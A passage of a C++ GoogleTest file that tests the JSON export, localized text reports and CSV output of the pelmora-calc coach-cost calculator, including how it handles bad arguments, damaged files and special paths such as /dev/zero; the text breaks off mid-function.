// The JSON export and the pelmora-calc command.
#include "analisis/exportar.h"
#include "archivos/archivo.h"
#include "archivos/json.h"
#include "aplicacion.h"
#include "calculo/calculo.h"
#include "flujo.h"
#include "entrada/numeros.h"

#include <gtest/gtest.h>

#include <QCoreApplication>
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QProcessEnvironment>
#include <QRegularExpression>
#include <QTemporaryDir>

#include <atomic>
#include <chrono>
#include <cmath>
#include <cstdlib>
#include <limits>
#include <thread>

#include <fcntl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

using namespace pelmora;

// Readable QString in failure messages.
static void PrintTo(const QString &s, std::ostream *os)
{
    *os << '"' << s.toStdString() << '"';
}

namespace {

using prueba::asegurarAplicacion;

const QString kReferencia = QString::fromUtf8(PELMORA_DATOS "/Vededizaviro/Autocar Estandar mas 55 plazas.obs");
const QString kPrograma = QString::fromUtf8(PELMORA_BIN "/pelmora-calc");

const char *const kClaves[] = {"Caracteristicas", "CostesFijos1", "CostesFijos2", "CostesVariables",
                               "CostesIndirectos", "Resultados", "Servicio"};

QJsonObject analizar(const QByteArray &json)
{
    QJsonParseError err;
    const QJsonDocument doc = QJsonDocument::fromJson(json, &err);
    EXPECT_EQ(err.error, QJsonParseError::NoError) << err.errorString().toStdString() << "\n" << json.toStdString();
    EXPECT_TRUE(doc.isObject());
    return doc.object();
}

// The entry i (from 1) of a section array of a column in parsed JSON.
QJsonValue entrada(const QJsonObject &raiz, const char *columna, const char *seccion, int i)
{
    return raiz.value(QLatin1String(columna)).toObject().value(QLatin1String(seccion)).toArray().at(i - 1);
}

// Every entry of a column in the JSON is the model's entry, exactly.
void compararColumna(const QJsonObject &obj, const Columna &c)
{
    for (int k = 0; k < kNumSecciones; ++k) {
        const auto sec = static_cast<Seccion>(k);
        const QJsonArray a = obj.value(QLatin1String(kClaves[k])).toArray();
        ASSERT_EQ(a.size(), tamano(sec)) << kClaves[k];
        for (int i = 1; i <= tamano(sec); ++i) {
            const Valor &v = c(sec, i);
            const QJsonValue j = a.at(i - 1);
            SCOPED_TRACE(std::string(kClaves[k]) + "(" + std::to_string(i) + ")");
            switch (v.tipo()) {
            case Valor::Tipo::Vacio: EXPECT_TRUE(j.isNull()); break;
            case Valor::Tipo::Numero:
                ASSERT_TRUE(j.isDouble());
                EXPECT_EQ(j.toDouble(), v.numero()); // exact, not near
                break;
            case Valor::Tipo::Texto:
                ASSERT_TRUE(j.isString());
                EXPECT_EQ(j.toString(), v.texto());
                break;
            case Valor::Tipo::Booleano:
                ASSERT_TRUE(j.isBool());
                EXPECT_EQ(j.toBool(), v.booleano());
                break;
            }
        }
    }
}

struct Salida {
    int codigo = -1;
    QString out, err;
    QByteArray outBytes;
};

// memoria: most bytes of address space the program may take (0: no limit),
// so that a run that grows without end fails soon instead of filling the
// machine.
Salida ejecutar(const QStringList &args, const QString &idioma = "es_ES.UTF-8", int espera = 60000,
                rlim_t memoria = 0, const QString &carpeta = QString())
{
    asegurarAplicacion();
    QProcess p;
    p.setWorkingDirectory(carpeta);
    if (memoria > 0) {
        p.setChildProcessModifier([memoria] {
            const struct rlimit limite = {memoria, memoria};
            ::setrlimit(RLIMIT_AS, &limite);
        });
    }
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert("LANG", idioma);
    env.insert("LC_ALL", idioma);
    env.remove("LC_NUMERIC");
    env.remove("LANGUAGE");
    p.setProcessEnvironment(env);
    p.start(kPrograma, args);
    Salida s;
    if (!p.waitForStarted(10000)) {
        ADD_FAILURE() << "no arranca " << kPrograma.toStdString();
        return s;
    }
    if (!p.waitForFinished(espera)) {
        p.kill();
        p.waitForFinished();
        ADD_FAILURE() << "pelmora-calc no termina";
        return s;
    }
    s.codigo = p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1;
    s.outBytes = p.readAllStandardOutput();
    s.out = QString::fromUtf8(s.outBytes);
    s.err = QString::fromUtf8(p.readAllStandardError());
    return s;
}

QByteArray leer(const QString &ruta)
{
    QFile f(ruta);
    EXPECT_TRUE(f.open(QIODevice::ReadOnly)) << ruta.toStdString();
    return f.readAll();
}

bool escribirArchivo(const QString &ruta, const QByteArray &b)
{
    QFile f(ruta);
    return f.open(QIODevice::WriteOnly) && f.write(b) == b.size();
}

// A figure written by hand with Spanish separators: 1.234.567,89.
QString espanol(double x, int decimales)
{
    QString t = QString::number(std::fabs(x), 'f', decimales);
    QString entera = t.section('.', 0, 0), dec = t.section('.', 1, 1);
    for (int k = int(entera.size()) - 3; k > 0; k -= 3)
        entera.insert(k, '.');
    return (x < 0 ? "-" : "") + entera + (decimales > 0 ? "," + dec : "");
}

// The line of the report whose caption is titulo (followed by the blanks
// before the figures, or by nothing), or empty.
QString lineaDe(const QString &informe, const QString &titulo)
{
    for (const QString &l : informe.split('\n'))
        if (l.startsWith(titulo) && (l.size() == titulo.size() || l.mid(titulo.size(), 2) == "  "))
            return l;
    return QString();
}

// The figures of a report line after its caption.
QStringList cifras(const QString &linea, const QString &titulo)
{
    return linea.mid(titulo.size()).split(' ', Qt::SkipEmptyParts);
}

} // namespace

// ---------------------------------------------------------------------------
// JSON export

TEST(calculoJson, FormaTiposYEscapes)
{
    Calculo c;
    Columna &s = c.columnaParaPruebas(Col::S);
    const QString raro =
        QString::fromUtf8("Autocar \"Gran Turismo\" \\ nº 5 — ñandú\t€\n\x01 fin 😀\x7f\xc2\x9b");
    s(Seccion::Caracteristicas, 1) = Valor(raro);
    s(Seccion::Caracteristicas, 7) = Valor(QString());   // empty text, not null
    s(Seccion::Caracteristicas, 2) = Valor(55);
    s(Seccion::CostesFijos1, 1) = Valor(false);
    s(Seccion::CostesFijos1, 2) = Valor(0.1 + 0.2);        // 0.30000000000000004
    s(Seccion::CostesFijos1, 3) = Valor(-1234567.891);
    s(Seccion::CostesFijos1, 4) = Valor(1e-300);
    s(Seccion::CostesFijos1, 5) = Valor(std::numeric_limits<double>::infinity());
    s(Seccion::CostesFijos1, 6) = Valor(std::nan(""));
    s(Seccion::Resultados, 18) = Valor(123456.78);
    s(Seccion::Resultados, 19) = Valor();
    s(Seccion::Servicio, 31) = Valor(7.0);
    s.Fecha = QDate(2004, 5, 17);
    c.columnaParaPruebas(Col::O).Fecha = QDate();

    const QByteArray json = calculoJson(c);
    const QJsonObject raiz = analizar(json);
    ASSERT_EQ(raiz.keys(), (QStringList{"ColumnaO", "ColumnaS"}));
    // Columns and sections in record order, entry 1 first.
    EXPECT_LT(json.indexOf("\"ColumnaS\""), json.indexOf("\"ColumnaO\""));
    int ultimo = -1;
    for (const char *k : kClaves) {
        const int pos = int(json.indexOf(QByteArray("\"") + k + "\""));
        EXPECT_GT(pos, ultimo) << k;
        ultimo = pos;
    }
    for (const char *col : {"ColumnaS", "ColumnaO"}) {
        const QJsonObject o = raiz.value(QLatin1String(col)).toObject();
        EXPECT_EQ(o.size(), 8) << col;
        for (int k = 0; k < kNumSecciones; ++k)
            EXPECT_EQ(o.value(QLatin1String(kClaves[k])).toArray().size(), tamano(static_cast<Seccion>(k)))
                << col << " " << kClaves[k];
    }

    EXPECT_EQ(entrada(raiz, "ColumnaS", "Caracteristicas", 1).toString(), raro);
    EXPECT_TRUE(entrada(raiz, "ColumnaS", "Caracteristicas", 7).isString());
    EXPECT_EQ(entrada(raiz, "ColumnaS", "Caracteristicas", 7).toString(), QString());
    EXPECT_EQ(entrada(raiz, "ColumnaS", "Caracteristicas", 2).toDouble(), 55.0);
    EXPECT_TRUE(entrada(raiz, "ColumnaS", "CostesFijos1", 1).isBool());
    EXPECT_FALSE(entrada(raiz, "ColumnaS", "CostesFijos1", 1).toBool());
    EXPECT_EQ(entrada(raiz, "ColumnaS", "CostesFijos1", 2).toDouble(), 0.1 + 0.2);
    EXPECT_EQ(entrada(raiz, "ColumnaS", "CostesFijos1", 3).toDouble(), -1234567.891);
    EXPECT_EQ(entrada(raiz, "ColumnaS", "CostesFijos1", 4).toDouble(), 1e-300);
    EXPECT_TRUE(entrada(raiz, "ColumnaS", "CostesFijos1", 5).isNull());
    EXPECT_TRUE(entrada(raiz, "ColumnaS", "CostesFijos1", 6).isNull());
    EXPECT_TRUE(entrada(raiz, "ColumnaS", "Resultados", 19).isNull());
    EXPECT_EQ(entrada(raiz, "ColumnaS", "Resultados", 18).toDouble(), 123456.78);
    EXPECT_EQ(entrada(raiz, "ColumnaS", "Servicio", 31).toDouble(), 7.0);
    EXPECT_EQ(raiz.value("ColumnaS").toObject().value("Fecha").toString(), "2004-05-17");
    EXPECT_TRUE(raiz.value("ColumnaO").toObject().value("Fecha").isNull());

    // Shortest exact forms, whole numbers without a fraction, accents as
    // UTF-8 rather than \u escapes, control characters escaped.
    EXPECT_TRUE(json.contains("0.30000000000000004")) << json.toStdString();
    EXPECT_TRUE(json.contains("-1234567.891"));
    EXPECT_TRUE(json.contains("\"Caracteristicas\": [\"Autocar"));
    EXPECT_TRUE(json.contains(", 55, "));
    EXPECT_TRUE(json.contains(QString::fromUtf8("ñandú\\t€\\n\\u0001").toUtf8()));
    EXPECT_TRUE(json.contains("\\u007f\\u009b\"")); // DEL and C1 too
    EXPECT_TRUE(json.contains("\\\"Gran Turismo\\\" \\\\ "));
    EXPECT_FALSE(json.contains("inf"));
    EXPECT_FALSE(json.contains("nan"));
}

// A calculation's date as yyyy-mm-dd whatever the year: the first and last
// of the four-digit years, and past them as the C library writes them.
TEST(calculoJson, FechasDeCualquierAnio)
{
    struct Caso {
        QDate fecha;
        const char *texto;
    };
    for (const Caso c : {Caso{QDate(1, 1, 1), "\"0001-01-01\""}, Caso{QDate(987, 10, 9), "\"0987-10-09\""},
                         Caso{QDate(2026, 12, 31), "\"2026-12-31\""}, Caso{QDate(9999, 12, 31), "\"9999-12-31\""},
                         Caso{QDate(10000, 1, 2), "\"10000-01-02\""}, Caso{QDate(-44, 3, 15), "\"-044-03-15\""}}) {
        Calculo calc;
        calc.columnaParaPruebas(Col::S).Fecha = c.fecha;
        EXPECT_TRUE(calculoJson(calc).contains(QByteArray("\"Fecha\": ") + c.texto)) << c.texto;
    }
}

TEST(calculoJson, NumerosNoDependenDelIdioma)
{
    const QLocale antes;
    QLocale::setDefault(QLocale(QLocale::German, QLocale::Germany));
    EXPECT_EQ(numeroJson(1234567.5), "1234567.5");
    EXPECT_EQ(numeroJson(-0.25), "-0.25");
    EXPECT_EQ(numeroJson(3.0), "3");
    QLocale::setDefault(antes);
    for (double x : {0.1, 2.675, 1.0 / 3.0, 6000.0, 273200.0, 1e21, 5e-324, -7.25e-5}) {
        const QByteArray t = numeroJson(x);
        EXPECT_EQ(std::strtod(t.constData(), nullptr), x) << t.toStdString();
        EXPECT_FALSE(t.contains(',')) << t.toStdString();
    }
    EXPECT_EQ(numeroJson(-std::numeric_limits<double>::infinity()), "null");
}

TEST(calculoJson, ArchivoDeReferenciaEntradaPorEntrada)
{
    Calculo c;
    ASSERT_EQ(AbrirArchivo(c, kReferencia), ErrorArchivo::Ninguno);
    const QJsonObject raiz = analizar(calculoJson(c));
    compararColumna(raiz.value("ColumnaS").toObject(), c.columnaS());
    compararColumna(raiz.value("ColumnaO").toObject(), c.columnaO());
    // The description holds the file's Windows-1252 accents, now as text.
    EXPECT_EQ(entrada(raiz, "ColumnaS", "Caracteristicas", 1).toString(),
              QString::fromUtf8("Autocar estándar de más de 55 plazas"));
    EXPECT_TRUE(entrada(raiz, "ColumnaS", "CostesFijos1", 1).isBool());
    EXPECT_EQ(raiz.value("ColumnaO").toObject().value("Fecha").toString(), "2026-01-15");
    // Loading computes the results: the total is there and is a number.
    EXPECT_GT(entrada(raiz, "ColumnaS", "Resultados", 18).toDouble(), 0.0);
    EXPECT_TRUE(entrada(raiz, "ColumnaS", "Resultados", 20).isNull());
}

// ---------------------------------------------------------------------------
// The command

TEST(PelmoraCalc, AyudaYUsoIncorrecto)
{
    const Salida ayuda = ejecutar({"--help"});
    EXPECT_EQ(ayuda.codigo, 0);
    EXPECT_TRUE(ayuda.out.startsWith("Uso: pelmora-calc")) << ayuda.out.toStdString();
    EXPECT_TRUE(ayuda.out.contains("--json"));
    EXPECT_TRUE(ayuda.out.contains(QString::fromUtf8("Códigos de salida")));
    EXPECT_TRUE(ayuda.err.isEmpty());
    EXPECT_EQ(ejecutar({"-h"}).codigo, 0);
    // Taken in order: help before an unknown option is answered.
    EXPECT_EQ(ejecutar({"--help", "--xml"}).codigo, 0);
    const Salida version = ejecutar({"--version"});
    EXPECT_EQ(version.codigo, 0);
    EXPECT_EQ(version.out, "pelmora-calc " PELMORA_VERSION "\n");
    // "--" ends the options: what follows is a file.
    const Salida fin = ejecutar({"--", kReferencia});
    EXPECT_EQ(fin.codigo, 0) << fin.err.toStdString();
    EXPECT_EQ(fin.out, ejecutar({kReferencia}).out);

    for (const QStringList &args :
         {QStringList{}, QStringList{"--json"}, QStringList{"--xml", kReferencia}, QStringList{"--xml", "--help"},
          QStringList{"--json=1", kReferencia}, QStringList{"-json", kReferencia},
          QStringList{"--csv", "--json", kReferencia}, QStringList{"--referencia", kReferencia},
          QStringList{"--csv", "--referencia", "--sensibilidad", kReferencia},
          QStringList{"--sensibilidad", kReferencia, kReferencia}, QStringList{"--sensibilidad", PELMORA_DATOS},
          QStringList{"--sensibilidad=0", kReferencia}, QStringList{"--sensibilidad=100", kReferencia},
          QStringList{"--sensibilidad=-5", kReferencia}, QStringList{"--sensibilidad=", kReferencia},
          QStringList{"--sensibilidad=diez", kReferencia}, QStringList{"--sensibilidad=nan", kReferencia},
          QStringList{"--sensibilidad=10%", kReferencia}, QStringList{"--sensibilidad"},
          QStringList{"--sensibilidad=1e-300", kReferencia}, QStringList{"--sensibilidad=1e1", kReferencia},
          QStringList{"--sensibilidad=2.125", kReferencia}, QStringList{"--sensibilidad= 5", kReferencia},
          QStringList{"--sensibilidad=5", "--sensibilidad=6", kReferencia},
          QStringList{"--sensibilidad", "--sensibilidad", kReferencia}}) {
        const Salida s = ejecutar(args);
        EXPECT_EQ(s.codigo, 64) << args.join(' ').toStdString();
        EXPECT_TRUE(s.err.contains("Uso: pelmora-calc")) << s.err.toStdString();
        EXPECT_TRUE(s.out.isEmpty());
    }
}

TEST(PelmoraCalc, ArchivoQueNoSePuedeLeer)
{
    QTemporaryDir dir;
    ASSERT_TRUE(dir.isValid());

    const Salida falta = ejecutar({dir.filePath("no existe.clc")});
    EXPECT_EQ(falta.codigo, 2);
    EXPECT_EQ(falta.err.trimmed(), "Archivo no encontrado.");
    EXPECT_TRUE(falta.out.isEmpty());

    // Only the first 150 lines of a good file: a short file is damaged.
    const QByteArray bueno = leer(kReferencia);
    QByteArray corto;
    int lineas = 0;
    for (qsizetype k = 0; k < bueno.size() && lineas < 150; ++k) {
        corto += bueno[k];
        if (bueno[k] == '\n')
            ++lineas;
    }
    const QString rutaCorta = dir.filePath("corto.clc");
    ASSERT_TRUE(escribirArchivo(rutaCorta, corto));
    for (const QStringList &args : {QStringList{rutaCorta}, QStringList{"--json", rutaCorta}}) {
        const Salida s = ejecutar(args);
        EXPECT_EQ(s.codigo, 2);
        EXPECT_EQ(s.err.trimmed(), QString::fromUtf8("Archivo en mal estado."));
        EXPECT_TRUE(s.out.isEmpty());
    }
}

TEST(PelmoraCalc, SoloArchivosNormalesYNuncaMasDeUnMegabyte)
{
    QTemporaryDir dir;
    ASSERT_TRUE(dir.isValid());
    const QString tuberia = dir.filePath("tuberia.clc");
    ASSERT_EQ(::mkfifo(QFile::encodeName(tuberia).constData(), 0644), 0);
    const QString enlace = dir.filePath("enlace.clc");
    ASSERT_TRUE(QFile::link(kReferencia, enlace));
    // A good file padded after its 184 lines to the limit, and one byte more.
    const QByteArray bueno = leer(kReferencia);
    const QString alLimite = dir.filePath("al limite.clc"), sobra = dir.filePath("sobra.clc");
    ASSERT_TRUE(escribirArchivo(alLimite, bueno + QByteArray(1024 * 1024 - bueno.size(), '\n')));
    ASSERT_TRUE(escribirArchivo(sobra, bueno + QByteArray(1024 * 1024 + 1 - bueno.size(), '\n')));

    const QString acceso = QString::fromUtf8("Error de acceso a la ruta o al archivo.");
    const struct {
        QString ruta;
        int codigo;
        QString error;
    } casos[] = {
        {"/dev/zero", 2, acceso},    {"/dev/urandom", 2, acceso}, {tuberia, 2, acceso},
        {enlace, 0, ""},             {alLimite, 0, ""},
        {sobra, 2, QString::fromUtf8("Archivo en mal estado.")},
    };
    for (const auto &caso : casos) {
        SCOPED_TRACE(caso.ruta.toStdString());
        // At once, and within a small memory.
        const Salida s = ejecutar({"--json", caso.ruta}, "es_ES.UTF-8", 10000, 128 << 20);
        EXPECT_EQ(s.codigo, caso.codigo) << s.err.toStdString();
        EXPECT_EQ(s.err.trimmed(), caso.error);
        EXPECT_EQ(s.out.isEmpty(), caso.codigo != 0);
    }
}

TEST(PelmoraCalc, UnDescuentoDeJustoElMaximoSeConservaAlAbrir)
{
    // Fuel at 0.301 (line 57) with a discount of 0.1806 (line 58): 60 %.
    QList<QByteArray> lineas = leer(kReferencia).split('\n');
    lineas[56] = "0.301\r";
    lineas[57] = "0.1806\r";
    QTemporaryDir dir;
    const QString ruta = dir.filePath("descuento.clc");
    ASSERT_TRUE(escribirArchivo(ruta, lineas.join('\n')));
    const Salida s = ejecutar({"--json", ruta});
    ASSERT_EQ(s.codigo, 0) << s.err.toStdString();
    const QJsonObject raiz = analizar(s.outBytes);
    EXPECT_EQ(entrada(raiz, "ColumnaS", "CostesVariables", 3).toDouble(), 0.1806);
    EXPECT_EQ(entrada(raiz, "ColumnaS", "CostesVariables", 2).toDouble(), 60.0);
}

TEST(PelmoraCalc, JsonIgualAlDeAbrirElArchivo)
{
    Calculo c;
    ASSERT_EQ(AbrirArchivo(c, kReferencia), ErrorArchivo::Ninguno);
    // Independent of the regional settings: the same bytes under any.
    const Salida es = ejecutar({"--json", kReferencia}, "es_ES.UTF-8");
    const Salida en = ejecutar({kReferencia, "--json"}, "en_US.UTF-8");
    EXPECT_EQ(es.codigo, 0) << es.err.toStdString();
    EXPECT_EQ(es.outBytes, calculoJson(c));
    EXPECT_EQ(en.outBytes, es.outBytes);
}

TEST(PelmoraCalc, InformeConSeparadoresDelIdioma)
{
    // The file under a name with accents and blanks, in a folder of our own.
    QTemporaryDir dir;
    ASSERT_TRUE(dir.isValid());
    const QString ruta = dir.filePath(QString::fromUtf8("cálculo de prueba.clc"));
    ASSERT_TRUE(escribirArchivo(ruta, leer(kReferencia)));

    const Salida js = ejecutar({"--json", ruta});
    ASSERT_EQ(js.codigo, 0) << js.err.toStdString();
    const QJsonObject raiz = analizar(js.outBytes);
    const double total = entrada(raiz, "ColumnaS", "Resultados", 18).toDouble();
    const double totalO = entrada(raiz, "ColumnaO", "Resultados", 18).toDouble();
    const double c4 = entrada(raiz, "ColumnaS", "Resultados", 47).toDouble();
    const double km = entrada(raiz, "ColumnaS", "Resultados", 41).toDouble();
    ASSERT_GT(total, 1000.0);
    ASSERT_GT(km, 1000.0);

    const Salida es = ejecutar({ruta}, "es_ES.UTF-8");
    ASSERT_EQ(es.codigo, 0) << es.err.toStdString();
    EXPECT_TRUE(es.err.isEmpty());
    EXPECT_TRUE(es.out.contains(QString::fromUtf8("Cálculo Personalizado")));
    EXPECT_TRUE(es.out.contains(QString::fromUtf8("Vededizaviro de Costes")));
    EXPECT_TRUE(es.out.contains(QString::fromUtf8("Autocar estándar de más de 55 plazas")));

    const QString kTotal = "Costes Totales repercutibles a todos los servicios";
    const QStringList t = cifras(lineaDe(es.out, kTotal), kTotal);
    // Amount and share of each column: 2 and 1 decimals, share 100.
    ASSERT_EQ(t.size(), 4) << es.out.toStdString();
    EXPECT_EQ(t[0], espanol(total, 2));
    EXPECT_EQ(t[1], "100,0");
    EXPECT_EQ(t[2], espanol(totalO, 2));
    EXPECT_TRUE(t[0].contains(QRegularExpression("^\\d{1,3}(\\.\\d{3})+,\\d{2}$"))) << t[0].toStdString();

    const QString kKm = "Kilometraje anual";
    const QStringList k = cifras(lineaDe(es.out, kKm), kKm);
    ASSERT_GE(k.size(), 2) << es.out.toStdString();
    EXPECT_EQ(k[0], espanol(km, 0));
    EXPECT_EQ(k[1], "km");

    const QString kC4 = "C4 = coste unitario por kilómetro (costes totales)";
    const QStringList u = cifras(lineaDe(es.out, kC4), kC4);
    ASSERT_GE(u.size(), 2);
    EXPECT_EQ(u[0], espanol(c4, 3));
    EXPECT_EQ(u[1], QString::fromUtf8("€/km"));

    // The same report with English separators.
    const Salida en = ejecutar({ruta}, "en_US.UTF-8");
    ASSERT_EQ(en.codigo, 0);
    const QStringList te = cifras(lineaDe(en.out, kTotal), kTotal);
    ASSERT_EQ(te.size(), 4);
    QString ingles = espanol(total, 2);
    ingles.replace('.', '#').replace(',', '.').replace('#', ',');
    EXPECT_EQ(te[0], ingles);
    EXPECT_EQ(te[1], "100.0");
    // Dates as the program writes them, whatever the settings: the file's
    // 2026-01-15 of both columns is 15/1/26.
    const QString titulos = QString::fromUtf8("Cálculo Personalizado (15/1/26)   Vededizaviro de Costes (15/1/26)");
    for (const Salida *salida : {&es, &en})
        EXPECT_TRUE(salida->out.contains(titulos)) << salida->out.toStdString();

    // Figures line up: every row of the cost table ends at the same column.
    const int fin = int(lineaDe(es.out, kTotal).size());
    for (const char *fila : {"Amortización del autocar", "Combustible", "Costes Directos"})
        EXPECT_EQ(lineaDe(es.out, QString::fromUtf8(fila)).size(), fin) << fila;
}

TEST(PelmoraCalc, InformeConIndirectosEnTotalYServicios)
{
    // User column with the indirect costs as one total (line 72, block 5
    // entry 1), service 1 with 50 euros, 100 km and 2 h (lines 77 to 79)
    // and the other four empty.
    QList<QByteArray> lineas = leer(kReferencia).split('\n');
    ASSERT_GE(lineas.size(), 184);
    lineas[71] = "#FALSE#\r";
    lineas[76] = "50\r";
    lineas[77] = "100\r";
    lineas[78] = "2\r";
    for (int k = 79; k < 91; ++k) // services 2 to 5 never given a value
        lineas[k] = "\r";
    QTemporaryDir dir;
    ASSERT_TRUE(dir.isValid());
    const QString ruta = dir.filePath("indirectos.clc");
    ASSERT_TRUE(escribirArchivo(ruta, lineas.join('\n')));

    const Salida js = ejecutar({"--json", ruta});
    ASSERT_EQ(js.codigo, 0) << js.err.toStdString();
    const QJsonObject raiz = analizar(js.outBytes);
    EXPECT_FALSE(entrada(raiz, "ColumnaS", "CostesIndirectos", 1).toBool());
    const double km = entrada(raiz, "ColumnaS", "Servicio", 3).toDouble();
    const double horas = entrada(raiz, "ColumnaS", "Servicio", 4).toDouble();
    EXPECT_EQ(km, 100.0);
    EXPECT_EQ(horas, 2.0);
    const double costeKmH = entrada(raiz, "ColumnaS", "Servicio", 5).toDouble();
    const double costeKm = entrada(raiz, "ColumnaS", "Servicio", 6).toDouble();
    const double costeH = entrada(raiz, "ColumnaS", "Servicio", 7).toDouble();
    ASSERT_GT(costeKmH, 50.0);
    ASSERT_GT(costeKm, 50.0);
    ASSERT_GT(costeH, 50.0);

    const Salida es = ejecutar({ruta});
    ASSERT_EQ(es.codigo, 0);
    // The user column shows no breakdown rows; the reference column does.
    const QString kEstructura = "Costes de estructura";
    const QStringList e = cifras(lineaDe(es.out, kEstructura), kEstructura);
    ASSERT_EQ(e.size(), 2) << es.out.toStdString();
    EXPECT_EQ(e[0], espanol(entrada(raiz, "ColumnaO", "Resultados", 11).toDouble(), 2));

    // Service 1 only: its entries and its three costs, the others blank.
    const QString kKmH = QString::fromUtf8("  Kilómetros y horas");
    const QString kSoloKm = QString::fromUtf8("  Kilómetros");
    const QString kSoloH = QString::fromUtf8("  Horas");
    EXPECT_EQ(cifras(lineaDe(es.out, kKmH), kKmH), QStringList{espanol(costeKmH, 2)}) << es.out.toStdString();
    EXPECT_EQ(cifras(lineaDe(es.out, kSoloKm), kSoloKm), QStringList{espanol(costeKm, 2)});
    EXPECT_EQ(cifras(lineaDe(es.out, kSoloH), kSoloH), QStringList{espanol(costeH, 2)});
    const QString kPropios = QString::fromUtf8("Costes repercutidos únicamente a este servicio (Euros)");
    EXPECT_EQ(cifras(lineaDe(es.out, kPropios), kPropios), QStringList{"50,00"});
    const QString kKmFact = QString::fromUtf8("Kilómetros facturados a este servicio");
    EXPECT_EQ(cifras(lineaDe(es.out, kKmFact), kKmFact), QStringList{"100,0"});
}

// ---------------------------------------------------------------------------
// Several files, and the sensitivity

namespace {

// A folder of calculations: two good ones (one in a subfolder), a damaged
// one, and a file that is no calculation.
struct Flota {
    Flota()
    {
        EXPECT_TRUE(QDir(dir.path()).mkpath("sub"));
        EXPECT_TRUE(escribirArchivo(a(), leer(kReferencia)));
        EXPECT_TRUE(escribirArchivo(b(), leer(QString::fromUtf8(PELMORA_DATOS "/Vededizaviro/Autocar Estandar 10 a 25 "
                                                                            "plazas.obs"))));
        EXPECT_TRUE(escribirArchivo(roto(), "basura\r\n"));
        EXPECT_TRUE(escribirArchivo(dir.filePath("notas.txt"), "nada\r\n"));
    }
    QString a() const { return dir.filePath("a.clc"); }
    QString b() const { return dir.filePath(QString::fromUtf8("sub/b; \"ñ\".clc")); }
    QString roto() const { return dir.filePath("roto.clc"); }
    QString falta() const { return dir.filePath("falta.clc"); }
    QTemporaryDir dir;
};

// The figures of a JSON export: result slot n of a column.
double slot(const QJsonObject &raiz, const char *columna, int n)
{
    return entrada(raiz, columna, "Resultados", n).toDouble();
}

} // namespace

TEST(PelmoraCalc, CsvDeVariosArchivosConErrores)
{
    Flota f;
    const QJsonObject ja = analizar(ejecutar({"--json", f.a()}).outBytes);
    const QJsonObject jb = analizar(ejecutar({"--json", f.b()}).outBytes);
    for (const char *idioma : {"es_ES.UTF-8", "en_US.UTF-8"}) {
        SCOPED_TRACE(idioma);
        const bool coma = QByteArray(idioma).startsWith("es");
        const QChar sep = coma ? ';' : ',';
        const Salida s = ejecutar({"--csv", "--referencia", f.dir.path(), f.falta()}, idioma);
        EXPECT_EQ(s.codigo, 2);
        EXPECT_EQ(s.err, f.roto() + QString::fromUtf8(": Archivo en mal estado.\n") + f.falta() +
                             ": Archivo no encontrado.\n");
        ASSERT_TRUE(s.outBytes.startsWith("\xEF\xBB\xBF"));
        ASSERT_TRUE(s.outBytes.endsWith("\r\n"));
        const QStringList lineas = QString::fromUtf8(s.outBytes.mid(3)).chopped(2).split("\r\n");
        // Heading; a and its reference; the damaged file; b and its
        // reference; the missing file. Folders in path order, notes left out.
        ASSERT_EQ(lineas.size(), 7) << s.out.toStdString();
        auto campos = [&](int k) {
            QString l = lineas[k];
            // The one name quoted: it holds ";" and quotes.
            l.replace('"' + QString(f.b()).replace("\"", "\"\"") + '"', "B");
            return l.split(sep);
        };
        const QStringList cabecera = campos(0);
        ASSERT_EQ(cabecera.size(), 3 + 4 + 13 + 3 + 5 + 5);
        EXPECT_EQ(cabecera.mid(0, 3), (QStringList{"Archivo", QString::fromUtf8("Descripción"), "Plazas"}));
        EXPECT_EQ(cabecera[22], "Costes totales");
        EXPECT_EQ(cabecera[23], QString::fromUtf8("C1 (€/viajero-km)"));
        EXPECT_EQ(cabecera[28], QString::fromUtf8("Servicio 1: coste (kilómetros y horas)"));
        for (int k = 1; k < lineas.size(); ++k)
            EXPECT_EQ(campos(k).size(), cabecera.size()) << k;

        auto cifra = [&](double x, int d) {
            QString t = QString::number(x, 'f', d);
            return coma ? t.replace('.', ',') : t;
        };
        const QStringList filaA = campos(1), refA = campos(2), error = campos(3), filaB = campos(4);
        EXPECT_EQ(filaA[0], f.a());
        EXPECT_EQ(filaA[1], QString::fromUtf8("Autocar estándar de más de 55 plazas"));
        EXPECT_EQ(filaA[3], cifra(slot(ja, "ColumnaS", 41), 0));
        EXPECT_EQ(filaA[7], cifra(slot(ja, "ColumnaS", 1), 2));
        EXPECT_EQ(filaA[22], cifra(slot(ja, "ColumnaS", 18), 2));
        EXPECT_EQ(filaA[26], cifra(slot(ja, "ColumnaS", 47), 3));
        EXPECT_EQ(filaA[28], cifra(entrada(ja, "ColumnaS", "Servicio", 5).toDouble(), 2));
        EXPECT_TRUE(refA[1].startsWith("Vededizaviro de Costes: ")) << refA[1].toStdString();
        EXPECT_EQ(refA[22], cifra(slot(ja, "ColumnaO", 18), 2));
        EXPECT_EQ(refA[23], ""); // no C1 for the reference column
        EXPECT_EQ(refA[28], ""); // nor services
        EXPECT_EQ(error.mid(0, 3), (QStringList{f.roto(), QString::fromUtf8("Archivo en mal estado."), ""}));
        EXPECT_EQ(filaB[0], "B");
        EXPECT_EQ(filaB[22], cifra(slot(jb, "ColumnaS", 18), 2));
        EXPECT_EQ(campos(6)[1], "Archivo no encontrado.");
    }
    // One file with --csv: the heading and its row; all good: exit 0.
    const Salida uno = ejecutar({"--csv", f.a()});
    EXPECT_EQ(uno.codigo, 0) << uno.err.toStdString();
    EXPECT_EQ(uno.outBytes.count("\r\n"), 2);
}

namespace {

// The cells of a CSV document as a spreadsheet splits them: quoted fields
// (a doubled quote inside for one quote), sep between fields, CR LF lines.
std::vector<QStringList> celdasCsv(const QString &texto, QChar sep)
{
    std::vector<QStringList> filas(1);
    QString celda;
    bool dentro = false;
    for (qsizetype k = 0; k < texto.size(); ++k) {
        const QChar c = texto[k];
        if (dentro && c == '"' && k + 1 < texto.size() && texto[k + 1] == '"')
            celda += c, ++k;
        else if (c == '"')
            dentro = !dentro;
        else if (!dentro && (c == sep || c == '\r')) {
            filas.back() << celda;
            celda.clear();
            if (c == '\r')
                filas.emplace_back(), ++k; // and its LF
        } else
            celda += c;
    }
    filas.pop_back(); // after the last line end
    return filas;
}

// A calculation file with another description.
QByteArray conDescripcion(const QByteArray &archivo, const QString &descripcion)
{
